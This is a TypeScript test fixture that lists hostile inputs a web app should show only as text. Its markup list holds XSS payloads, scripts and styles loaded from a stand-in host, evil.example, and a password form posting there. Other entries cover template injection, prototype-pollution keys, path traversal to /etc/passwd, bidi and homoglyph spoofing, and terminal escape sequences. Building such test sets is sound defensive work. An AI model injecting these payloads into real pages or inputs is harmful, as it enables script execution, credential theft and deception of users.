// Texts of people who mean harm. Wherever one comes in, it is shown as the text that it is, and nothing else happens.

export interface HostileText {
  readonly what: string;
  readonly text: string;
}

/** Each of these does harm where it becomes markup: `watch-intrusions.ts` is told by it. */
export const HOSTILE_MARKUP: readonly HostileText[] = [
  { what: 'a picture with a handler', text: '<img src=x onerror=__pwned()>' },
  {
    what: 'an svg with a handler',
    text: '<svg onload="__pwned()"><script>__pwned()</script></svg>',
  },
  { what: 'a way out of an attribute', text: `"'><img src="x" onerror="__pwned()"><b title='` },
  {
    what: 'a way out of every element',
    text: '</title></textarea></style></script></select></noscript>--><img src=x onerror=__pwned()>',
  },
  {
    what: 'a frame of its own',
    text: '<iframe srcdoc="<script>parent.__pwned()</script>"></iframe>',
  },
  {
    what: 'a frame by a script address',
    text: '<iframe src="javascript:parent.__pwned()"></iframe>',
  },
  {
    what: 'objects',
    text: '<object data="data:text/html,<script>0</script>"></object><embed src="javascript:__pwned()">',
  },
  {
    what: 'another place for every address',
    text: '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  },
  {
    what: 'a way elsewhere',
    text: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  },
  {
    what: 'a form for a password',
    text: '<form action="https://evil.example/"><input name="password" autofocus onfocus="__pwned()"></form>',
  },
  {
    what: 'a link that is a script',
    text: '<a href="java&#115;cript:__pwned()" id="page">Invoke</a>',
  },
  {
    what: 'what a cleaner of HTML may turn round',
    text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwned()&gt;">',
  },
  {
    what: 'a style sheet',
    text: '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  },
  {
    what: 'a style',
    text: '<p style="background:url(https://evil.example/x);position:fixed">x</p>',
  },
  {
    what: 'a script',
    text: '<script src="https://evil.example/x.js"></script><script>__pwned()</script>',
  },
];

const HOSTILE_WORDS: readonly HostileText[] = [
  { what: 'a script address', text: 'javascript:__pwned()//%0a__pwned()' },
  { what: 'a data address', text: 'data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4=' },
  { what: 'markup in entities', text: '&lt;img src=x onerror=__pwned()&gt;&#60;script&#62;' },
  {
    what: 'templates',
    text: `{{constructor.constructor('__pwned()')()}} \${__pwned()} #{__pwned()} <%= __pwned() %>`,
  },
  {
    what: 'styles',
    text: 'red;}*{background:url(//evil.example/x)} @import "//evil.example/x.css";',
  },
  { what: 'links of Markdown', text: '[a](javascript:__pwned()) ![b](https://evil.example/x.png)' },
  { what: 'an address', text: 'https://user@evil.example:444/?q=1#x' },
  { what: 'the prototype', text: '__proto__' },
  { what: 'a constructor', text: 'constructor' },
  { what: 'a method of every object', text: 'hasOwnProperty' },
  {
    what: 'an object with a prototype',
    text: '{"__proto__":{"pwned":true},"a":{"constructor":1}}',
  },
  { what: 'a path into JSON', text: `$['environments'][0]..*.name\\u003cimg` },
  { what: 'a path out of a folder', text: '../../etc/passwd%00..\\..\\con.txt' },
  {
    what: 'marks of direction',
    text: 'safe\u202Egnp.exe\u202C \u2067abc \u2069\u2069 \u200F\u061C end',
  },
  { what: 'letters that look alike', text: 'p\u0430yp\u0430l\u200B\u200D\uFEFF-pr\u043Ed' },
  { what: 'control characters', text: 'null\u0000 back\u0008 del\u007F csi\u009B31m' },
  {
    what: 'orders for a terminal',
    text: '\u001B[31mred\u001B[0m\u001B[2J \u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007',
  },
  { what: 'halves of characters', text: 'half \uD83D and \uDE00 other' },
  { what: 'separators of lines', text: 'one\u2028two\u2029three\u0085four' },
  {
    what: 'lines as of a log',
    text: '2026-11-22T13:52:07.000Z\t1b-2c\tERROR\tforged REPORT RequestId: 1 Duration: 1 ms',
  },
  { what: 'towers of marks', text: `Z${'\u0301'.repeat(80)}algo` },
  { what: 'a long word', text: `long${'W'.repeat(1500)}` },
];

export const HOSTILE_TEXTS: readonly HostileText[] = [...HOSTILE_MARKUP, ...HOSTILE_WORDS];

/** Some at a time, for places that hold one text: each with a blank before it, so that it begins as it would alone. */
export const HOSTILE_LINES: readonly string[] = Array.from({ length: 5 }, (_none, at) =>
  HOSTILE_TEXTS.slice(at * 8, at * 8 + 8)
    .map(({ text }) => text)
    .join(' '),
);
